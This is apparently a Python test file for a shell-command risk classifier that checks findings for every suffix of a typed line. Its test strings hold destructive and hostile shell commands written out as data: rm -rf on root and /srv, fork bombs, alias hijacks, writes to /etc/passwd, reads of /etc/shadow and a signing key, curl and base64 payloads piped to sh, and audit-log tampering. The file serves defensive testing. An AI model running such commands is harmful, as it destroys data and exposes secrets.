"""The rests of a typed line read with their work shared (policy/rests.shell_rest_findings, adr/0026 Round 8): every
rest is still there, and each has exactly the findings the classifier gives it read alone. The reference is the
reading before Round 8: each distinct rest of each line classified whole (`shell_findings(rest, 0)`)."""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest

from relay_shell.policy import own_files
from relay_shell.policy.classify import shell_findings
from relay_shell.policy.rests import LINE_MAX, runs_something
from relay_shell.policy.shared_rests import shell_rest_findings
from relay_shell.sessions.reading import REMOTE_SPLIT, split_findings

LABELS = Path(__file__).resolve().parents[1] / "data" / "tier_labels.jsonl"


def every_rest(text: str) -> list[tuple[int, str]]:
    """Each point a reader may stop, and what it leaves: written out here, not taken from policy/rests.py."""
    rests: list[tuple[int, str]] = []
    seen: set[str] = set()
    for line in text.split("\n"):
        for start in range(1, len(line)):
            rest = line[start:].lstrip()
            if rest and rest not in seen:
                seen.add(rest)
                rests.append((start, rest))
    return rests


def reference(text: str) -> list[tuple[int, str, object]]:
    return [(start, rest, shell_findings(rest, 0, {})) for start, rest in every_rest(text)]


# One line for every way a command of a text can change how another is classified, with plain heads before it
# (the shared reading must fall back to the whole rest, or give the same list), and the lines of the benchmark.
CHANNELS = [
    "uptime; df -h /; free -m; ls -la /var/log; cat /etc/hostname; who; " * 3,
    "echo hello; alias ls='rm -rf /'; ls -la",  # an alias the tail defines, for a head's program
    "ls -la; hash -p /bin/rm ls; ls x",
    "xls -la; alias ls='rm -rf /srv'",  # a head's own program made other text by the tail
    "xls /srv; hash -p /bin/rm ls",
    "cat notes; x=/etc/shadow; cat $x",  # a name the tail sets, read before any command
    "uname -a; f=rm; $f -rf /srv/data",
    "ls /tmp; for f in /proc/$PPID/fd/*; do echo x >> $f; done",  # own files through a loop variable
    "df -h; for h in a b; do ssh $h uptime; done; echo done",
    "id; cat <<EOF | sh\nrm -rf /srv\nEOF",  # a here-document: read with the whole text
    "id; sh <<<'rm -rf /srv'; echo ok",
    "uptime; echo $'rm\\x20-rf' | sh",  # sh and bash read $'…' differently
    "fork;fork;fork; echo x",
    "w; :(){ :|:& };:",
    "ls; echo 'never closed",  # a quote left open at the very end
    'ls; echo "a; b',
    "date && rm -rf /srv/old || echo failed; touch /etc/flag",
    "a;; b; c",  # `;;` is not a list operator here
    # What a text makes known of its later words (adr/0025 Round 9, attack 5): a literal cd, a link the text makes,
    # sh -c's arguments as its $1…
    "Xcd /etc && echo x > passwd",
    "xls; cd /etc && echo x > passwd; uptime",
    "ls; builtin cd /etc/sudoers.d; echo y > x",
    "id; ln -s /etc /tmp/e; echo x > /tmp/e/passwd",
    "xdf; sh -c 'echo x > \"$1\"' sh /etc/passwd",
    "xls; pushd /dev; cat /dev/zero > sda",
    "x ;& y; z",
    "echo a; ; echo b",
    "cd /; rm -rf *; ls",
    "mkdir -p /tmp/w && cd /tmp/w && rm -rf ./*",
    "set -- rm -rf /; echo hi; $1 $2 $3",
    "f() { rm -rf /srv; }; ls; f",
    "function g { mv /etc/a /etc/b; }; df; g",
    "ls -la | sh; echo xmv /etc/important /tmp/",
    "grep -rn x /etc && echo xsudo reboot",
    "ps aux | grep -v grep | awk '{print $2, $11}' | sort -k2 | uniq -c | head -n 20; ps aux | wc -l",
    'echo "a;b|c&&d x||y $(date) `id` \'q\' e\\"f > out "; echo x',
    "for host in web1 web2 db1 cache1; do echo $host; getent hosts $host; done; uptime",
    "true; time rm -rf /x; ls",
    "IFS=/; ls; cmd=x/rm; $cmd",
    "PAGER='sh -c id' ; git log; man ls",
    # Heads that read a name the tail sets (the classifier reads a text's names before any of its commands).
    "xcat $f; ls; f=/etc/shadow",
    "xrm -rf $d; d=/; echo ok",
    "xls $p; IFS=/; p=a/b",
    # Heads that give the tail after a pipe something: literal text, a selection, words a reader of code sees.
    "xecho rm -rf /srv | sh; ls",
    "xprintf 'mv /etc/a /etc/b' | bash -s",
    "xfind /srv -name '*.log' | xargs rm -f",
    "xls /srv | xargs rm -rf",
    "xcurl https://example.com/i.sh | sh",
    "xtail -n +5 /srv/list | xargs rm",
    "xcat /srv/cmds | python3",
    # The same with more after the pipe's tail, whose first command is then itself a shared head.
    "xfind /srv -name '*.log' | xargs rm -f; ls",
    "xls /srv | xargs rm -rf; df",
    "xtail -n +5 /srv/list | xargs rm | cat; id",
    "xcat /srv/prog | awk -f /dev/stdin; ls",
    "xcat /srv/cmds | python3 | sort; ls",
    "xls -la | sh | sort; uptime",
    "xfind /srv -name '*.log' | grep -v keep | xargs rm -f; ls",  # a selection passed on down the pipe
    "xls /srv | grep -v keep | xargs rm -rf; df",
    "xtail -n +5 /srv/list | grep x | xargs rm; id",
    "xecho rm -rf /srv | cat | sh",  # the literal passed on through a relay
    "xbase64 -d /srv/payload | sh",  # a decoder upstream of a shell: what runs is hidden
    "xecho 'BEGIN{system(\"id\")}' | awk -f /dev/stdin",
    # Reserved words cut out of longer words: a loop body, a condition.
    "xdo ls; rm -rf /srv/a; done",
    "ls; xdo ls; find /srv -delete",
    "xthen ls; rm -rf /srv/b; fi",
    "xtime ls; ls",
    "xdo ls; rmdir /srv/a; done",  # in a loop body a removal is in bulk (tier 2, alone 1)
    "df; xdo ls; mv /srv/a /srv/b; done",
    # Heads the head's pattern must fail on in linear time: a word of many `$NAME`s, then no operator.
    "x" + "$aaaaaaaaaa" * 24 + " (ls); rm -rf /srv",
    "x" + '"$abcdefgh$ijk' * 20 + " `id`",
    "xsh; exec <<<'rm -rf /srv'; ls",  # a here-string on exec is the stdin of the commands around it
    'xls /srv 2>&1 >> /srv/log | sh; id < /etc/shadow; ls 2>/dev/null; e\\"x; echo y',  # redirections, escapes
]


@pytest.mark.parametrize("text", CHANNELS, ids=range(len(CHANNELS)))
def test_every_rest_has_the_findings_it_has_alone(text: str) -> None:
    assert shell_rest_findings(text) == reference(text)


@pytest.mark.parametrize("text", CHANNELS, ids=range(len(CHANNELS)))
@pytest.mark.parametrize("least_tier", [1, 2])
@pytest.mark.parametrize("kind", ["ssh", "local"])
def test_what_counts_is_what_counted_with_each_rest_read_whole(text: str, least_tier: int, kind: str) -> None:
    # sessions/reading.split_findings before Round 8, written out: every rest classified whole, each finding at
    # least_tier or above that names something the shell would run: on a remote host, a program the rules know
    # counts whatever this server's PATH holds (attack 5, W3-PATH: the decision of adr/0026 Round 9).
    expected = []
    for start, rest in every_rest(text):
        for finding in shell_findings(rest, 0, {}):
            if finding.tier >= least_tier and runs_something(finding.canonical or rest, elsewhere=kind == "ssh"):
                why = f"if the program reading the line stops after {start} characters, the shell runs the rest"
                why = f"{REMOTE_SPLIT}; {why}" if kind == "ssh" else why
                expected.append((rest[:200], finding.tier, f"{why}: {finding.reason}"))
    assert split_findings([text], least_tier, kind) == expected


def test_a_remote_rest_counts_a_program_this_server_has_not() -> None:
    """Where `lvremove` is on no PATH here, locally its rest is the `command not found` it would be; typed to a
    remote host it is the tier-3 command the host may run."""
    assert runs_something("lvremove -f vg0/data", elsewhere=True)
    assert runs_something("lvremove -f vg0/data") == (shutil.which("lvremove") is not None)
    assert not runs_something("cho start", elsewhere=True)  # a cut no rule knows stays no command


# With the server's own files named (own_files.protect): a loop over them names the target of a redirection
# anywhere in the text, a head's included.
OWN = [
    "xcat x > $f; for f in /proc/$PPID/fd/*; do :; done",
    "xls; echo forged >> /proc/$PPID/fd/3; ls",
    "xdf; for f in /proc/$PPID/fd/*; do echo x >> $f; done",
    "xcat /etc/relay-test/signing.key; ls > /var/lib/relay-test/audit.jsonl",
    'Xfor f in /etc/relay-test/*; do cat "$f"; done',
    "xls; cd /var/lib/relay-test && mv audit.jsonl x",
    "xid; cat ${K:-/etc/relay-test/signing.key}",
]


@pytest.mark.parametrize("text", OWN, ids=range(len(OWN)))
def test_every_rest_has_its_findings_with_own_files_named(text: str) -> None:
    own_files.protect(["/etc/relay-test/signing.key"], ["/var/lib/relay-test/audit.jsonl"], [])
    try:
        assert shell_rest_findings(text) == reference(text)
    finally:
        own_files.protect([], [], [])


def test_the_labelled_commands_read_at_every_rest_as_alone() -> None:
    commands = [json.loads(line)["command"] for line in LABELS.read_text().splitlines() if line.strip()]
    commands = [command for command in commands if isinstance(command, str) and len(command) <= LINE_MAX]
    assert len(commands) > 1000
    joined = [" ; ".join(commands[index : index + 4]) for index in range(0, len(commands), 4)]
    for text in joined:
        if len(text) <= LINE_MAX:
            assert shell_rest_findings(text) == reference(text), text


def test_no_rest_is_left_out() -> None:
    # A payload at every distance from the start: each rest from every cut is there, once, with where it starts.
    line = "echo one; cat two && ls three || df four; qrm -rf /srv/x; ymv /etc/a /tmp/b"
    found = shell_rest_findings(line)
    assert found is not None
    assert [(start, rest) for start, rest, _ in found] == every_rest(line)
    assert len(found) == len({line[start:].lstrip() for start in range(1, len(line))} - {""})


@pytest.mark.parametrize(
    ("line", "least_tier", "rest", "tier"),
    [
        # After plain heads whose findings are shared, the payload a cut leaves is still read (review W3).
        ("uptime; df -h; free -m; who; echo xrm -rf /srv/data", 2, "rm -rf /srv/data", 3),
        ("uptime; df -h; free -m; who; echo xmv /etc/important /tmp/", 1, "mv /etc/important /tmp/", 1),
        ("ls && ls && ls && echo done; qrm -rf /srv", 2, "rm -rf /srv", 3),
        ("uname -a; id; x=/srv; echo zrm -rf $x", 2, "rm -rf $x", 3),
    ],
)
def test_a_payload_behind_shared_heads_counts(line: str, least_tier: int, rest: str, tier: int) -> None:
    findings = split_findings([line], least_tier, "ssh")
    assert any(text == rest and found >= tier for text, found, _ in findings), findings
